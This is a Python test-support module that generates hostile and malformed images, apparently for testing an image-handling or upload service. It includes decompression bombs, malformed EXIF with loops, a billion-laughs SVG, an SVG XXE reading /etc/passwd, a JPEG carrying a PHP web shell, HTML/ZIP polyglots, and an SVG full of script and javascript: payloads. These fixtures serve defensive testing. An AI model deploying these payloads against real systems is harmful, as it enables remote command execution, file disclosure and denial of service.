"""Hostile and odd images, generated with Pillow (or by hand where Pillow refuses to write them)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

from support import images


def _chunk(kind: bytes, data: bytes, *, crc: int | None = None) -> bytes:
    checksum = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum & 0xFFFFFFFF)


def _png(width: int, height: int, idat: bytes, *, bit_depth: int = 8, color_type: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def png_bomb_header() -> bytes:
    """A PNG whose header claims 100000x100000 pixels, with a few bytes of data."""
    return _png(100_000, 100_000, zlib.compress(b"\0" * 1024))


def png_bomb_real(side: int = 8000) -> bytes:
    """A real decompression bomb: side*side gray pixels (64 Mpx by default) that compress to ~60 KB."""
    row = b"\0" + b"\0" * side  # filter byte + pixels
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    return _png(side, side, data)


def gif_huge_screen() -> bytes:
    """A GIF whose logical screen and only frame claim 65535x65535, in about 40 bytes."""
    header = b"GIF89a" + struct.pack("<HHBBB", 0xFFFF, 0xFFFF, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"," + struct.pack("<HHHHB", 0, 0, 0xFFFF, 0xFFFF, 0) + b"\x02\x02\x44\x01\x00"
    return header + frame + b";"


def jpeg_huge_dimensions() -> bytes:
    """A small real JPEG whose SOF0 header is patched to claim 65000x65000."""
    data = bytearray(images.jpeg(16, 16, seed=3))
    sof = data.find(b"\xff\xc0")
    assert sof > 0
    data[sof + 5 : sof + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(data)


def png_zero_width() -> bytes:
    return _png(0, 10, zlib.compress(b"\0" * 10))


def truncated_jpeg() -> bytes:
    data = images.jpeg(640, 480, seed=4)
    return data[: len(data) // 2]


def png_bad_crc(chunk: bytes = b"IDAT") -> bytes:
    """A 32x32 gray PNG whose IHDR or IDAT chunk has a wrong CRC (the data itself is intact)."""
    header = struct.pack(">IIBBBBB", 32, 32, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"".join(b"\0" + bytes(range(32)) for _ in range(32)))

    def crc(kind: bytes, data: bytes) -> int | None:
        return zlib.crc32(kind + data) ^ 0xDEADBEEF if kind == chunk else None

    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header, crc=crc(b"IHDR", header))
            + _chunk(b"IDAT", idat, crc=crc(b"IDAT", idat)) + _chunk(b"IEND", b""))


def gif_html_polyglot() -> bytes:
    """A valid GIF whose comment block (near the start) is an HTML page with a script."""
    out = io.BytesIO()
    Image.new("P", (8, 8), 1).save(out, "GIF", comment=b"<html><body><script>alert(document.domain)</script>")
    return out.getvalue()


def jpeg_php_polyglot() -> bytes:
    """A valid JPEG with a PHP payload in a COM segment right after SOI."""
    data = images.jpeg(32, 32, seed=5)
    payload = b"<?php system($_GET['c']); ?>"
    segment = b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload
    return data[:2] + segment + data[2:]


def jpeg_with_zip(width: int = 120, height: int = 90) -> bytes:
    """A valid JPEG with a ZIP archive (holding an HTML page) appended: a JPEG/ZIP polyglot."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as zipped:
        zipped.writestr("index.html", "<html><script>alert(1)</script></html>")
    return images.jpeg(width, height, seed=6) + archive.getvalue()


def gif_many_frames(frames: int = 500) -> bytes:
    """An animated GIF with `frames` 4x4 frames (every frame differs from the previous one)."""
    palette_frames = [Image.new("P", (4, 4), i % 2) for i in range(frames)]
    for i, frame in enumerate(palette_frames):
        frame.putpixel((i % 4, (i // 4) % 4), 2 + i % 200)
    out = io.BytesIO()
    palette_frames[0].save(out, "GIF", save_all=True, append_images=palette_frames[1:], duration=20, loop=0,
                           optimize=False)
    return out.getvalue()


def cmyk_jpeg(width: int = 120, height: int = 80) -> bytes:
    out = io.BytesIO()
    Image.new("CMYK", (width, height), (0, 128, 255, 20)).save(out, "JPEG", quality=85)
    return out.getvalue()


def png_16bit(width: int = 64, height: int = 48) -> bytes:
    image = Image.new("I;16", (width, height))
    image.putdata([(x * 1000 + y * 7) % 65536 for y in range(height) for x in range(width)])
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def png_rgb_16bit(width: int = 40, height: int = 30) -> bytes:
    """A 48-bit RGB PNG (Pillow cannot write these: built by hand)."""
    row = b"\0" + b"".join(struct.pack(">HHH", x * 1500, 65535 - x * 1500, 30000) for x in range(width))
    return _png(width, height, zlib.compress(row * height), bit_depth=16, color_type=2)


def palette_png_transparent(width: int = 50, height: int = 40) -> bytes:
    image = Image.new("P", (width, height), 0)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0] * (254 * 3))
    for x in range(width // 2):
        image.putpixel((x, x % height), 1)
    out = io.BytesIO()
    image.save(out, "PNG", transparency=0)
    return out.getvalue()


def _tiff_ifd(entries: list[tuple[int, int, int, bytes]], count_override: int | None = None) -> bytes:
    """Little-endian TIFF header plus IFD0 with (tag, type, count, 4-byte value) entries, next-IFD 0."""
    count = len(entries) if count_override is None else count_override
    body = struct.pack("<H", count)
    for tag, kind, n, value in entries:
        body += struct.pack("<HHI", tag, kind, n) + value.ljust(4, b"\0")[:4]
    return b"II*\x00" + struct.pack("<I", 8) + body + struct.pack("<I", 0)


def _with_app1(jpeg: bytes, tiff: bytes) -> bytes:
    payload = b"Exif\x00\x00" + tiff
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def exif_malformed_ifd(width: int = 80, height: int = 60) -> bytes:
    """EXIF whose IFD0 claims 65535 entries (there are two) and whose Exif sub-IFD points far past the end."""
    tiff = _tiff_ifd([
        (0x010F, 2, 64, struct.pack("<I", 0x7FFFFF00)),  # Make: 64 characters far beyond the segment
        (0x8769, 4, 1, struct.pack("<I", 0x7FFFFFF0)),  # ExifIFD pointer beyond the segment
    ], count_override=0xFFFF)
    return _with_app1(images.jpeg(width, height, seed=7), tiff)


def exif_gigantic_values(width: int = 80, height: int = 60) -> bytes:
    """EXIF with a 2^31-element value, a zero-denominator rational, a loop of IFDs and a bogus orientation."""
    tiff = bytearray(_tiff_ifd([
        (0x010F, 2, 0x7FFFFFFF, struct.pack("<I", 8)),  # Make: 2 GiB ASCII string
        (0x011A, 5, 1, struct.pack("<I", 0xFFFFFF00)),  # XResolution: rational far outside
        (0x0112, 3, 1, struct.pack("<H", 60000)),  # Orientation: not 1..8
        (0x8825, 4, 1, struct.pack("<I", 8)),  # GPS IFD pointer back to IFD0: a loop
        (0x9003, 2, 0xFFFFFFFF, struct.pack("<I", 12)),  # DateTimeOriginal of 4 GiB
    ]))
    tiff[-4:] = struct.pack("<I", 8)  # next IFD is IFD0 again: another loop
    return _with_app1(images.jpeg(width, height, seed=8), bytes(tiff))


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    ]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE svg [\n' + "\n".join(entities) + "\n]>\n"
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&lol9;</text></svg>'
    ).encode()


def svg_xxe(path: str = "file:///etc/passwd") -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "{path}">]>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&x;</text></svg>'
    ).encode()


def svg_external_dtd(url: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE svg SYSTEM "{url}">\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="12" height="10"><rect width="5" height="5"/></svg>'
    ).encode()


def svg_active(tracker: str) -> bytes:
    """Every active trick at once: script, event handlers, javascript: links, external references."""
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="200" height="100" onload="alert(1)">
  <script>alert(document.cookie)</script>
  <script xlink:href="{tracker}/evil.js"/>
  <rect width="200" height="100" fill="red" onclick="alert(2)" onmouseover="alert(3)"/>
  <a href="javascript:alert(4)"><text x="10" y="50">click</text></a>
  <a xlink:href="JaVaScRiPt:alert(5)"><circle r="5"/></a>
  <image href="{tracker}/track.png" width="10" height="10"/>
  <use xlink:href="{tracker}/sprite.svg#x"/>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{tracker}/frame"/>
  </foreignObject>
  <style>@import url({tracker}/style.css); rect {{ fill: url({tracker}/fill.svg#p) }}</style>
  <set attributeName="onmouseover" to="alert(6)"/>
  <animate attributeName="href" values="javascript:alert(7)"/>
  <circle r="3" style="fill: url('javascript:alert(8)')"/>
</svg>""".encode()


def webp(width: int = 30, height: int = 20) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (1, 2, 3)).save(out, "WEBP")
    return out.getvalue()
